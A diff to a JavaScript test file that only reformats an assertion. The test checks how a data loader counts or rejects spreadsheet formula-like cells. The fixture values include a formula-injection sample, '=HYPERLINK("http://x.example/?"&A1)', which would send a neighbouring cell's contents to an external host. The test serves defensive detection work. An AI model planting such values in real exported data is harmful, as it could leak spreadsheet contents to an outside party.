@@ -54,7 +54,11 @@ describe('formula-like cells are kept and counted, or rejected when the source s
     assert.equal(summary.outcome, 'loaded');
     assert.deepEqual(summary.formula_like, { name: 2 });
     const names = (await rawRows(h, 'people')).map((row) => row.name);
-    assert.deepEqual(names, ['=HYPERLINK("http://x.example/?"&A1)', 'Ann', '@SUM(1)', 'Bo'], 'the data is as it arrived');
+    assert.deepEqual(
+      names,
+      ['=HYPERLINK("http://x.example/?"&A1)', 'Ann', '@SUM(1)', 'Bo'],
+      'the data is as it arrived',
+    );
   });
 
   test('under formula_like "reject" their rows are rejected with a reason; the rest load', async () => {
